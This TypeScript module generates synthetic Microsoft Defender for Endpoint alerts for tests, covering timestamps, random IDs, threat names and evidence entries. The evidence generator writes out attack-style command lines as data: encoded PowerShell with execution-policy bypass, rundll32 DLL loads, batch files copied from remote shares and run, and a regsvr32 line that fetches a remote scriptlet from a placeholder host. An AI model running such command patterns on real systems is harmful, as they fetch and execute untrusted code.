/**
 * Realistic, deterministic Microsoft Defender for Endpoint alerts for tests and the
 * benchmark. The key set and key order copy the alert in Microsoft's API reference
 * (shared/reference/defender-alert.example.json); the values vary the way real alerts do:
 * nulls, unicode, ids with negative numbers (`da637308392288907382_-880718168`),
 * timestamps with 1 to 7 fractional digits, and evidence lists that can run to megabytes.
 *
 * Timestamps are compared by the fake at full precision as 100-ns ticks since the Unix
 * epoch (`parseTimestamp`), the resolution of .NET's DateTimeOffset behind the real API.
 */

export interface AlertEvidence {
  entityType: string;
  evidenceCreationTime: string | null;
  sha1: string | null;
  sha256: string | null;
  fileName: string | null;
  filePath: string | null;
  processId: number | null;
  processCommandLine: string | null;
  processCreationTime: string | null;
  parentProcessId: number | null;
  parentProcessCreationTime: string | null;
  parentProcessFileName: string | null;
  parentProcessFilePath: string | null;
  ipAddress: string | null;
  url: string | null;
  registryKey: string | null;
  registryHive: string | null;
  registryValueType: string | null;
  registryValue: string | null;
  accountName: string | null;
  domainName: string | null;
  userSid: string | null;
  aadUserId: string | null;
  userPrincipalName: string | null;
  detectionStatus: string | null;
}

export interface AlertComment {
  comment: string;
  createdBy: string;
  createdTime: string;
}

export interface DefenderAlert {
  id: string;
  incidentId: number | null;
  investigationId: number | null;
  assignedTo: string | null;
  severity: string;
  status: string;
  classification: string | null;
  determination: string | null;
  investigationState: string | null;
  detectionSource: string;
  detectorId: string;
  category: string;
  threatFamilyName: string | null;
  title: string;
  description: string;
  alertCreationTime: string;
  firstEventTime: string | null;
  lastEventTime: string | null;
  lastUpdateTime: string;
  resolvedTime: string | null;
  machineId: string | null;
  computerDnsName: string | null;
  rbacGroupName: string | null;
  aadTenantId: string;
  threatName: string | null;
  mitreTechniques: string[];
  relatedUser: { userName: string; domainName: string } | null;
  comments: AlertComment[];
  evidence: AlertEvidence[];
}

/** Top-level keys of a real alert, in the order the API sends them. */
export const ALERT_KEYS: readonly (keyof DefenderAlert)[] = [
  "id",
  "incidentId",
  "investigationId",
  "assignedTo",
  "severity",
  "status",
  "classification",
  "determination",
  "investigationState",
  "detectionSource",
  "detectorId",
  "category",
  "threatFamilyName",
  "title",
  "description",
  "alertCreationTime",
  "firstEventTime",
  "lastEventTime",
  "lastUpdateTime",
  "resolvedTime",
  "machineId",
  "computerDnsName",
  "rbacGroupName",
  "aadTenantId",
  "threatName",
  "mitreTechniques",
  "relatedUser",
  "comments",
  "evidence",
];

/** Keys of one evidence entry, in API order. */
export const EVIDENCE_KEYS: readonly (keyof AlertEvidence)[] = [
  "entityType",
  "evidenceCreationTime",
  "sha1",
  "sha256",
  "fileName",
  "filePath",
  "processId",
  "processCommandLine",
  "processCreationTime",
  "parentProcessId",
  "parentProcessCreationTime",
  "parentProcessFileName",
  "parentProcessFilePath",
  "ipAddress",
  "url",
  "registryKey",
  "registryHive",
  "registryValueType",
  "registryValue",
  "accountName",
  "domainName",
  "userSid",
  "aadUserId",
  "userPrincipalName",
  "detectionStatus",
];

// ---------------------------------------------------------------------------
// Timestamps: 100-ns ticks since the Unix epoch, as bigint.

export const TICKS_PER_MS = 10_000n;
const TICKS_PER_SECOND = 10_000_000n;
/** .NET DateTime ticks at 1970-01-01T00:00:00Z (ids embed .NET ticks). */
export const DOTNET_EPOCH_TICKS = 621_355_968_000_000_000n;

const TIMESTAMP_RE =
  /^(\d{4})-(\d{2})-(\d{2})(?:T(\d{2}):(\d{2})(?::(\d{2})(?:\.(\d+))?)?(Z|[+-]\d{2}:\d{2}))?$/;

/**
 * Parses an ISO 8601 timestamp as the API writes it (or an OData literal: date only,
 * or with a `+hh:mm` offset) into 100-ns ticks since the Unix epoch. Returns null for
 * anything else, including more than 7 fractional digits.
 */
export function parseTimestamp(text: string): bigint | null {
  const m = TIMESTAMP_RE.exec(text);
  if (!m) return null;
  const [, y, mo, d, h = "00", mi = "00", s = "00", frac = "", zone = "Z"] = m;
  if (frac.length > 7) return null;
  const year = Number(y);
  const month = Number(mo);
  const day = Number(d);
  const hour = Number(h);
  const minute = Number(mi);
  const second = Number(s);
  if (month < 1 || month > 12 || day < 1 || hour > 23 || minute > 59 || second > 59) return null;
  const ms = Date.UTC(year, month - 1, day, hour, minute, second);
  const check = new Date(ms);
  if (check.getUTCDate() !== day || check.getUTCMonth() !== month - 1) return null;
  let ticks = BigInt(ms) * TICKS_PER_MS + BigInt(frac.padEnd(7, "0"));
  if (zone !== "Z") {
    const sign = zone.startsWith("-") ? -1n : 1n;
    const oh = Number(zone.slice(1, 3));
    const om = Number(zone.slice(4, 6));
    if (oh > 23 || om > 59) return null;
    ticks -= sign * BigInt(oh * 60 + om) * 60n * TICKS_PER_SECOND;
  }
  return ticks;
}

/**
 * Formats a time as `yyyy-MM-ddTHH:mm:ss.fffffffZ` with exactly `fractionDigits` (1..7)
 * digits, truncating (never rounding up). A Date has millisecond precision: digits 4..7
 * are zero unless the time is given as ticks.
 */
export function formatTimestamp(time: Date | bigint, fractionDigits = 7): string {
  if (!Number.isInteger(fractionDigits) || fractionDigits < 1 || fractionDigits > 7) {
    throw new RangeError(`fractionDigits must be 1..7, got ${fractionDigits}`);
  }
  const ticks = typeof time === "bigint" ? time : BigInt(time.getTime()) * TICKS_PER_MS;
  let seconds = ticks / TICKS_PER_SECOND;
  let frac = ticks % TICKS_PER_SECOND;
  if (frac < 0n) {
    frac += TICKS_PER_SECOND;
    seconds -= 1n;
  }
  const whole = new Date(Number(seconds) * 1000).toISOString().slice(0, 19);
  return `${whole}.${frac.toString().padStart(7, "0").slice(0, fractionDigits)}Z`;
}

/** Ticks for a Date or timestamp string; throws on an unparseable string. */
export function toTicks(time: Date | string | bigint): bigint {
  if (typeof time === "bigint") return time;
  if (time instanceof Date) return BigInt(time.getTime()) * TICKS_PER_MS;
  const ticks = parseTimestamp(time);
  if (ticks === null) throw new RangeError(`not a timestamp: ${time}`);
  return ticks;
}

// ---------------------------------------------------------------------------
// Seeded PRNG (mulberry32) and helpers.

export type Rng = () => number;

/** A deterministic PRNG returning floats in [0, 1); seeds may be numbers or strings. */
export function createRng(seed: number | string): Rng {
  let a = typeof seed === "number" ? seed >>> 0 : hashString(seed);
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** FNV-1a, 32 bits. */
export function hashString(text: string, seed = 0x811c9dc5): number {
  let h = seed >>> 0;
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i);
    h = Math.imul(h, 0x01000193);
  }
  return h >>> 0;
}

/** Random-value helpers over an Rng (shared with the Graph alert generator). */
export class R {
  constructor(readonly next: Rng) {}
  int(minInclusive: number, maxInclusive: number): number {
    return minInclusive + Math.floor(this.next() * (maxInclusive - minInclusive + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)] as T;
  }
  weighted<T>(items: readonly (readonly [T, number])[]): T {
    let total = 0;
    for (const [, w] of items) total += w;
    let x = this.next() * total;
    for (const [value, w] of items) {
      x -= w;
      if (x < 0) return value;
    }
    return (items[items.length - 1] as readonly [T, number])[0];
  }
  /** `count` random bytes (4 per PRNG step). */
  bytes(count: number): Buffer {
    const words = Math.ceil(count / 4);
    const buf = Buffer.allocUnsafe(words * 4);
    for (let i = 0; i < words; i++) buf.writeUInt32LE(Math.floor(this.next() * 0x100000000), i * 4);
    return buf.subarray(0, count);
  }
  hex(length: number): string {
    return this.bytes(Math.ceil(length / 2))
      .toString("hex")
      .slice(0, length);
  }
  uuid(): string {
    const h = this.hex(32);
    const variant = "89ab"[this.int(0, 3)];
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${variant}${h.slice(17, 20)}-${h.slice(20, 32)}`;
  }
  base64(length: number): string {
    return this.bytes(Math.ceil((length * 3) / 4))
      .toString("base64")
      .slice(0, length);
  }
  /** A signed 32-bit integer, negative about half the time. */
  int32(): number {
    return Math.floor(this.next() * 0x100000000) - 0x80000000;
  }
  /** 1..7 fractional digits, mostly 7 like the real API. */
  digits(): number {
    return this.weighted([
      [7, 10],
      [6, 2],
      [5, 2],
      [4, 2],
      [3, 2],
      [2, 2],
      [1, 2],
    ]);
  }
  /** A timestamp string for `ticks` with random digit count. */
  stamp(ticks: bigint, digits = this.digits()): string {
    return formatTimestamp(ticks, digits);
  }
}

// ---------------------------------------------------------------------------
// Vocabulary.

const SEVERITIES = [
  ["Informational", 15],
  ["Low", 35],
  ["Medium", 33],
  ["High", 15],
  ["UnSpecified", 2],
] as const;
const STATUSES = [
  ["New", 45],
  ["InProgress", 25],
  ["Resolved", 28],
  ["Unknown", 2],
] as const;
const CLASSIFICATIONS = ["TruePositive", "InformationalExpectedActivity", "FalsePositive"] as const;
const DETERMINATIONS = [
  "MultiStagedAttack",
  "MaliciousUserActivity",
  "Malware",
  "Phishing",
  "UnwantedSoftware",
  "SecurityTesting",
  "LineOfBusinessApplication",
  "ConfirmedActivity",
  "NotMalicious",
  "InsufficientData",
  "Other",
] as const;
const INVESTIGATION_STATES = [
  "Unknown",
  "Terminated",
  "SuccessfullyRemediated",
  "Benign",
  "Failed",
  "PartiallyRemediated",
  "Running",
  "PendingApproval",
  "PendingResource",
  "PartiallyInvestigated",
  "TerminatedByUser",
  "TerminatedBySystem",
  "Queued",
  "InnerFailure",
  "PreexistingAlert",
  "UnsupportedOs",
  "UnsupportedAlertType",
  "SuppressedAlert",
] as const;
const DETECTION_SOURCES = [
  ["WindowsDefenderAtp", 50],
  ["WindowsDefenderAv", 25],
  ["CustomDetection", 8],
  ["AutomatedInvestigation", 5],
  ["CustomerTI", 4],
  ["SmartScreen", 3],
  ["MTP", 5],
] as const;

interface Template {
  title: string;
  category: string;
  mitre: readonly string[];
  description: string;
}

const TEMPLATES: readonly Template[] = [
  {
    title: "Low-reputation arbitrary code executed by signed executable",
    category: "Execution",
    mitre: ["T1064", "T1085", "T1220"],
    description:
      "Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This technique hides the execution of malicious code within a trusted process.",
  },
  {
    title: "Suspicious PowerShell command line",
    category: "Execution",
    mitre: ["T1059.001", "T1027"],
    description:
      'A suspicious PowerShell activity was observed on the machine. It ran "powershell.exe -nop -w hidden -enc <…>" from C:\\Windows\\System32\\WindowsPowerShell\\v1.0.',
  },
  {
    title: "Possible credential theft via LSASS memory access",
    category: "CredentialAccess",
    mitre: ["T1003.001"],
    description:
      "A process accessed the memory of the Local Security Authority Subsystem Service (lsass.exe).\nAttackers use this to obtain credentials.",
  },
  {
    title: "Ransomware behavior detected in the file system",
    category: "Ransomware",
    mitre: ["T1486", "T1490"],
    description: "Multiple files were modified and renamed with an unusual extension (.locked).\tInvestigate now.",
  },
  {
    title: "Suspicious connection to a command-and-control (C&C) server",
    category: "CommandAndControl",
    mitre: ["T1071.001", "T1095"],
    description: "A process connected to an IP address associated with a known C&C infrastructure.",
  },
  {
    title: "'Mimikatz' credential theft tool",
    category: "CredentialAccess",
    mitre: [],
    description: "The credential theft tool 'Mimikatz' was detected and quarantined.",
  },
  {
    title: "An active 'Wacatac' malware was detected",
    category: "Malware",
    mitre: [],
    description: "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions.",
  },
  {
    title: "Suspicious scheduled task registration",
    category: "Persistence",
    mitre: ["T1053.005"],
    description: "A scheduled task was created that runs a script from a user-writable folder.",
  },
  {
    title: "Anomalous account lookups",
    category: "Discovery",
    mitre: ["T1087.002", "T1069.002"],
    description: "An unusual number of LDAP queries for privileged groups were made from this device.",
  },
  {
    title: "Suspicious remote service creation",
    category: "LateralMovement",
    mitre: ["T1021.002", "T1569.002"],
    description: "A service was created remotely over SMB using a randomly named binary.",
  },
  {
    title: "Verdächtige Ausführung einer Datei über „rundll32.exe“",
    category: "DefenseEvasion",
    mitre: ["T1218.011"],
    description: "Benutzerdefinierte Erkennung: rundll32 lud eine DLL aus %TEMP% – bitte prüfen.",
  },
  {
    title: "疑わしい PowerShell コマンド ライン",
    category: "Execution",
    mitre: ["T1059.001"],
    description: "カスタム検出ルール: エンコードされたコマンドが実行されました。",
  },
  {
    title: "Подозрительное создание службы на контроллере домена",
    category: "PrivilegeEscalation",
    mitre: ["T1543.003"],
    description: "Пользовательское правило обнаружения сработало на «DC01».",
  },
  {
    title: "🔥 Custom detection: ransomware canary file touched",
    category: "Impact",
    mitre: ["T1486"],
    description: "Canary file C:\\Finance\\~$canary.xlsx was modified by an unsigned process 🚨.",
  },
  {
    title: "Exécution suspecte d’un fichier « .lnk » depuis un lecteur amovible",
    category: "InitialAccess",
    mitre: ["T1091", "T1204.002"],
    description: "Un raccourci malveillant a été ouvert depuis E:\\ – vérifiez l’appareil.",
  },
];

const THREATS = [
  ["Mimikatz", "HackTool:Win32/Mimikatz.D"],
  ["Wacatac", "Trojan:Win32/Wacatac.B!ml"],
  ["CobaltStrike", "Backdoor:Win64/CobaltStrike.NP!dha"],
  ["Emotet", "Trojan:Win32/Emotet.ARJ!MTB"],
  ["Qakbot", "Trojan:Win32/Qakbot!ml"],
] as const;

const USER_NAMES = [
  "temp123",
  "jdoe",
  "svc_backup",
  "José.García",
  "zoë.müller",
  "山田太郎",
  "o'brien",
  "Administrator",
  "Ørjan",
  "ałła",
] as const;
const DOMAINS = ["DOMAIN", "CONTOSO", "FABRIKAM", "NT AUTHORITY", "WORKGROUP", "MÜNCHEN-AG"] as const;
const DNS_SUFFIXES = ["corp.contoso.com", "middleeast.corp.microsoft.com", "fabrikam.local", "eu.northwind.net"];
const RBAC_GROUPS = ["A", "Servers", "Workstations", "Tier 0 – Domain Controllers", "UnassignedGroup", "Ünternehmen-Laptops"];
const ANALYSTS = ["secop123@contoso.com", "analyst@fabrikam.onmicrosoft.com", "soc.tier2@mssp.example", "ñandú@contoso.com"];
const COMMENTS = [
  "test comment for docs",
  "Escalated to customer – waiting for approval.",
  "False positive: backup agent \"VeeamAgent.exe\" (see ticket #4711).",
  "已确认为测试活动。",
  "Line one\nline two\twith tab and a backslash \\",
  "🚩 isolating device",
];
const PROCESS_NAMES = [
  ["rundll32.exe", "C:\\Windows\\SysWOW64"],
  ["powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"],
  ["cmd.exe", "C:\\Windows\\System32"],
  ["wmic.exe", "C:\\Windows\\System32\\wbem"],
  ["mshta.exe", "C:\\Windows\\System32"],
  ["regsvr32.exe", "C:\\Windows\\System32"],
  ["explorer.exe", "C:\\Windows"],
  ["WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16"],
] as const;
const FILE_EXTENSIONS = [".dll", ".exe", ".ps1", ".js", ".lnk", ".docm", ".bat", ".hta"];
const REGISTRY_KEYS = [
  "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
  "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
  "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services",
];

// ---------------------------------------------------------------------------
// Generator.

/** Options that steer generation; every other key overrides the alert field of that name. */
export interface AlertGenerationOptions {
  /** When the alert was last updated; a string is used verbatim. */
  lastUpdateTime: Date | string;
  /** Seed for this alert alone; without seed or rng a module-wide seeded PRNG is used. */
  seed?: number | string;
  rng?: Rng;
  /** Number of evidence entries (default: random 0..6). */
  evidenceCount?: number;
  /** Fractional digits of lastUpdateTime when it is a Date (default: random, mostly 7). */
  fractionDigits?: number;
}

export type MakeAlertOptions = AlertGenerationOptions & Partial<Omit<DefenderAlert, "lastUpdateTime">>;

const OPTION_KEYS = new Set(["lastUpdateTime", "seed", "rng", "evidenceCount", "fractionDigits"]);

let moduleRng: Rng = createRng(0x5eed);

/** Restarts the module-wide PRNG used when makeAlert gets neither seed nor rng. */
export function resetDefaultRng(seed: number | string = 0x5eed): void {
  moduleRng = createRng(seed);
}

/**
 * One realistic alert. With a Date lastUpdateTime, the string is that millisecond plus
 * random sub-millisecond digits, truncated to `fractionDigits` (so it is within 1 ms of
 * the Date, and never later than it when fractionDigits <= 3).
 */
export function makeAlert(opts: MakeAlertOptions): DefenderAlert {
  const r = new R(opts.rng ?? (opts.seed !== undefined ? createRng(opts.seed) : moduleRng));

  let updated: bigint;
  let lastUpdateTime: string;
  if (typeof opts.lastUpdateTime === "string") {
    lastUpdateTime = opts.lastUpdateTime;
    updated = toTicks(lastUpdateTime);
  } else {
    updated = toTicks(opts.lastUpdateTime) + BigInt(r.int(0, 9999));
    lastUpdateTime = formatTimestamp(updated, opts.fractionDigits ?? r.digits());
  }

  const sec = TICKS_PER_SECOND;
  const created = r.chance(0.6)
    ? updated - BigInt(r.int(0, 3 * 1000)) * TICKS_PER_MS - BigInt(r.int(0, 9999))
    : updated - BigInt(r.int(60, 14 * 24 * 3600)) * sec - BigInt(r.int(0, 9_999_999));
  const firstEvent = created - BigInt(r.int(1, 600)) * sec - BigInt(r.int(0, 9_999_999));
  const lastEvent = firstEvent + BigInt(Math.floor(r.next() * Number(created - firstEvent)));

  const template = r.pick(TEMPLATES);
  const detectionSource = template.category === "Malware" ? "WindowsDefenderAv" : r.weighted(DETECTION_SOURCES);
  const status = r.weighted(STATUSES);
  const resolved = status === "Resolved";
  const threat = detectionSource === "WindowsDefenderAv" || template.category === "Malware" ? r.pick(THREATS) : null;
  const investigationId = r.chance(0.5) ? r.int(1, 9_999_999) : null;
  const hasMachine = r.chance(0.95);
  const host = `${r.pick(["desktop", "srv", "laptop", "dc", "temp"])}-${r.hex(6)}`;
  const user = r.chance(0.75) ? { userName: r.pick(USER_NAMES), domainName: r.pick(DOMAINS) } : null;
  const mitre = template.mitre.length > 0 ? template.mitre.filter(() => r.chance(0.8)) : [];

  const comments: AlertComment[] = [];
  const commentCount = r.weighted([
    [0, 6],
    [1, 3],
    [2, 1],
    [3, 1],
  ]);
  for (let i = 0; i < commentCount; i++) {
    const at = created + BigInt(Math.floor(r.next() * Number(updated - created + 1n)));
    comments.push({ comment: r.pick(COMMENTS), createdBy: r.pick(ANALYSTS), createdTime: r.stamp(at) });
  }

  const ctx: EvidenceContext = { r, created, user, host };
  const evidenceCount = opts.evidenceCount ?? r.int(0, 6);
  const evidence: AlertEvidence[] = [];
  for (let i = 0; i < evidenceCount; i++) evidence.push(makeEvidence(ctx, false));

  const idTicks = DOTNET_EPOCH_TICKS + created;
  const alert: DefenderAlert = {
    id: `da${idTicks.toString()}_${r.int32()}`,
    incidentId: r.chance(0.98) ? r.int(1, 9_999_999) : null,
    investigationId,
    assignedTo: resolved || r.chance(0.3) ? r.pick(ANALYSTS) : null,
    severity: r.weighted(SEVERITIES),
    status,
    classification: resolved ? r.pick(CLASSIFICATIONS) : r.chance(0.1) ? r.pick(CLASSIFICATIONS) : null,
    determination: resolved && r.chance(0.8) ? r.pick(DETERMINATIONS) : null,
    investigationState:
      investigationId === null
        ? r.pick(["Queued", "UnsupportedAlertType", "UnsupportedOs", "Unknown"])
        : r.pick(INVESTIGATION_STATES),
    detectionSource,
    detectorId: r.uuid(),
    category: template.category,
    threatFamilyName: threat ? threat[0] : null,
    title: template.title,
    description: template.description,
    alertCreationTime: r.stamp(created),
    firstEventTime: r.stamp(firstEvent),
    lastEventTime: r.stamp(lastEvent),
    lastUpdateTime,
    resolvedTime: resolved ? r.stamp(created + BigInt(Math.floor(r.next() * Number(updated - created + 1n)))) : null,
    machineId: hasMachine ? r.hex(40) : null,
    computerDnsName: hasMachine ? (r.chance(0.8) ? `${host}.${r.pick(DNS_SUFFIXES)}` : host) : null,
    rbacGroupName: hasMachine && r.chance(0.85) ? r.pick(RBAC_GROUPS) : null,
    aadTenantId: r.uuid(),
    threatName: threat ? threat[1] : null,
    mitreTechniques: mitre,
    relatedUser: user,
    comments,
    evidence,
  };

  for (const [key, value] of Object.entries(opts)) {
    if (!OPTION_KEYS.has(key) && value !== undefined) (alert as unknown as Record<string, unknown>)[key] = value;
  }
  return alert;
}

export interface MakeAlertsOptions extends Omit<MakeAlertOptions, "lastUpdateTime" | "id" | "rng"> {
  count: number;
  /** lastUpdateTime is spread uniformly over [from, to). */
  from: Date;
  to: Date;
  seed?: number | string;
}

/** `count` alerts with unique ids and random lastUpdateTime in [from, to). */
export function makeAlerts(opts: MakeAlertsOptions): DefenderAlert[] {
  const { count, from, to, seed, ...rest } = opts;
  const rng = createRng(seed ?? 1);
  const span = to.getTime() - from.getTime();
  const ids = new Set<string>();
  const out: DefenderAlert[] = [];
  while (out.length < count) {
    const at = new Date(from.getTime() + Math.floor(rng() * span));
    const alert = makeAlert({ ...rest, rng, lastUpdateTime: at });
    if (ids.has(alert.id)) continue;
    ids.add(alert.id);
    out.push(alert);
  }
  return out;
}

/**
 * An alert whose JSON is at least `targetBytes` (UTF-8) long, through a long list of
 * varied evidence: random sha1/sha256 hashes, paths, encoded command lines, registry
 * values. The content is far from trivially compressible (gzip keeps about a quarter).
 */
export function makeLargeAlert(targetBytes: number, opts: Partial<MakeAlertOptions> = {}): DefenderAlert {
  const alert = makeAlert({
    ...opts,
    lastUpdateTime: opts.lastUpdateTime ?? new Date("2024-01-01T00:00:00Z"),
    evidenceCount: 0,
  });
  const r = new R(opts.rng ?? createRng(`large:${alert.id}`));
  const ctx: EvidenceContext = {
    r,
    created: toTicks(alert.alertCreationTime),
    user: alert.relatedUser,
    host: alert.computerDnsName ?? "host",
  };
  let size = Buffer.byteLength(JSON.stringify(alert));
  while (size < targetBytes) {
    const ev = makeEvidence(ctx, true);
    size += Buffer.byteLength(JSON.stringify(ev)) + (alert.evidence.length > 0 ? 1 : 0);
    alert.evidence.push(ev);
  }
  return alert;
}

interface EvidenceContext {
  r: R;
  created: bigint;
  user: { userName: string; domainName: string } | null;
  host: string;
}

function emptyEvidence(entityType: string, evidenceCreationTime: string): AlertEvidence {
  return {
    entityType,
    evidenceCreationTime,
    sha1: null,
    sha256: null,
    fileName: null,
    filePath: null,
    processId: null,
    processCommandLine: null,
    processCreationTime: null,
    parentProcessId: null,
    parentProcessCreationTime: null,
    parentProcessFileName: null,
    parentProcessFilePath: null,
    ipAddress: null,
    url: null,
    registryKey: null,
    registryHive: null,
    registryValueType: null,
    registryValue: null,
    accountName: null,
    domainName: null,
    userSid: null,
    aadUserId: null,
    userPrincipalName: null,
    detectionStatus: null,
  };
}

function randomPath(r: R, long: boolean): string {
  const user = r.pick(USER_NAMES).replace(/[^\w.-]/g, "_");
  const base = r.pick([
    `C:\\Users\\${user}\\AppData\\Local\\Temp`,
    `C:\\Users\\${user}\\Downloads`,
    "C:\\ProgramData",
    "c:\\temp",
    `C:\\Users\\${user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup`,
  ]);
  let path = `${base}\\${r.hex(8)}`;
  if (long) for (let i = r.int(1, 4); i > 0; i--) path += `\\${r.base64(r.int(4, 16)).replace(/[+/]/g, "_")}`;
  return path;
}

function commandLine(r: R, name: string, path: string, long: boolean): string {
  switch (r.int(0, 3)) {
    case 0:
      return `${name} -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${r.base64(long ? r.int(200, 1500) : r.int(40, 120))}`;
    case 1:
      return `${name}  ${path}\\${r.hex(6)}.dll,${r.pick(["RepeatAfterMe", "DllRegisterServer", "Start", "#1"])}`;
    case 2:
      return `"${path}\\${name}" /c copy /y \\\\${r.hex(6)}\\share$\\${r.hex(10)}.bat %TEMP% && ${r.hex(10)}.bat ${r.hex(long ? 64 : 16)}`;
    default:
      return `${name} /s /n /u /i:https://${r.hex(8)}.example.net/${r.base64(long ? 96 : 24).replace(/[+/]/g, "-")}.sct scrobj.dll`;
  }
}

function makeEvidence(ctx: EvidenceContext, long: boolean): AlertEvidence {
  const { r } = ctx;
  const at = ctx.created + BigInt(r.int(0, 2000)) * TICKS_PER_MS + BigInt(r.int(0, 9999));
  const ev = emptyEvidence("", r.stamp(at));
  const kind = r.weighted([
    ["Process", 35],
    ["File", 30],
    ["User", 10],
    ["Ip", 10],
    ["Url", 8],
    ["RegistryValue", 7],
  ] as const);
  ev.entityType = kind;
  switch (kind) {
    case "User": {
      const user = ctx.user ?? { userName: r.pick(USER_NAMES), domainName: r.pick(DOMAINS) };
      ev.accountName = user.userName;
      ev.domainName = user.domainName;
      ev.userSid = `S-1-5-21-${r.int(1e8, 4e9)}-${r.int(1e8, 4e9)}-${r.int(1e8, 4e9)}-${r.int(500, 99999)}`;
      ev.aadUserId = r.chance(0.7) ? r.uuid() : null;
      ev.userPrincipalName = r.chance(0.7) ? `${user.userName}@${r.pick(DNS_SUFFIXES)}` : null;
      break;
    }
    case "Process": {
      const [name, dir] = r.pick(PROCESS_NAMES);
      const [parentName, parentDir] = r.pick(PROCESS_NAMES);
      const started = at - BigInt(r.int(1, 120_000)) * TICKS_PER_MS;
      ev.sha1 = r.hex(40);
      ev.sha256 = r.hex(64);
      ev.fileName = name;
      ev.filePath = dir;
      ev.processId = r.int(4, 65_535);
      ev.processCommandLine = commandLine(r, name, long ? randomPath(r, true) : dir, long);
      ev.processCreationTime = r.stamp(started);
      ev.parentProcessId = r.int(4, 65_535);
      ev.parentProcessCreationTime = r.stamp(started - BigInt(r.int(1, 600_000)) * TICKS_PER_MS);
      ev.parentProcessFileName = parentName;
      ev.parentProcessFilePath = parentDir;
      ev.detectionStatus = r.pick(["Detected", "Blocked", "Prevented", null]);
      break;
    }
    case "File":
      ev.sha1 = r.hex(40);
      ev.sha256 = r.hex(64);
      ev.fileName = `${r.pick(["suspicious", "invoice_", "setup", "Rechnung-", "报告", "update"])}${r.hex(4)}${r.pick(FILE_EXTENSIONS)}`;
      ev.filePath = randomPath(r, long);
      ev.detectionStatus = r.pick(["Detected", "Blocked", "Prevented", null]);
      break;
    case "Ip":
      ev.ipAddress = r.chance(0.8)
        ? `${r.int(1, 223)}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`
        : `2001:db8:${r.hex(4)}:${r.hex(4)}::${r.hex(4)}`;
      break;
    case "Url":
      ev.url = `https://${r.hex(8)}.${r.pick(["example.com", "contoso-cdn.net", "xn--bcher-kva.example"])}/${r.base64(long ? r.int(40, 400) : r.int(8, 40)).replace(/[+/]/g, "_")}?id=${r.hex(12)}`;
      break;
    case "RegistryValue":
      ev.registryKey = `${r.pick(REGISTRY_KEYS)}${long ? `\\${r.hex(12)}` : ""}`;
      ev.registryHive = ev.registryKey.startsWith("HKEY_CURRENT_USER") ? "HKEY_CURRENT_USER" : "HKEY_LOCAL_MACHINE";
      ev.registryValueType = r.pick(["String", "ExpandString", "Binary", "Dword"]);
      ev.registryValue = `${randomPath(r, long)}\\${r.hex(8)}.exe ${r.base64(long ? r.int(20, 300) : 12)}`;
      break;
  }
  return ev;
}
